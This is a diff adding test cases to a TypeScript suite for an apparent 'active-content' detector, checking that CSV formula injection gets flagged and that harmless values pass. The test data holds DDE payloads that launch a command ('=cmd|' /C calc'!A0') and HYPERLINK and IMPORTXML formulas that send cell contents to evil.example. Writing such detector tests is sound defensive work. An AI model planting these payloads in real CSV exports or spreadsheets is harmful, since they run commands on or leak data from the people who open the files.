@@ -127,6 +127,25 @@ describe('active-content: markup', () => {
   });
 });
 
+describe('active-content: CSV formulas', () => {
+  it.each([
+    ['a DDE command', 'name,amount\nbob,"=cmd|\' /C calc\'!A0"\n', ['csv-formula']],
+    ['@SUM with a pipe', "a;b\n1;@SUM(1+1)*cmd|' /C calc'!A0\n", ['csv-formula']],
+    ['a leading @ function', 'x,y\n@SUM(1+9),2\n', ['csv-formula']],
+    ['a link out', 'title\n=HYPERLINK("http://evil.example/?"&A1,"click")\n', ['csv-formula']],
+    ['a fetch', 'q\n+IMPORTXML(CONCAT("http://evil.example/",A1),"//a")\n', ['csv-formula']],
+    ['plain arithmetic', 'x\n=2+3\n=SUM(A1:A3)\n', []],
+    ['negative numbers and phone numbers', 'amount,phone\n-42,+1 555 0100\n-0.5,+44 20 7946\n', []],
+    ['mentions and emails', 'who,mail\n@alice,alice@example.com\n', []],
+  ])('%s', async (_label, text, expected) => {
+    expect(await active('export.csv', text)).toEqual(expected);
+  });
+
+  it('reads formulas in CSV only, not in other text', async () => {
+    expect(await active('notes.txt', "=cmd|' /C calc'!A0\n")).toEqual([]);
+  });
+});
+
 describe('active-content: PDF', () => {
   const flate = (text: string): Buffer => {
     const body = deflateSync(Buffer.from(text));
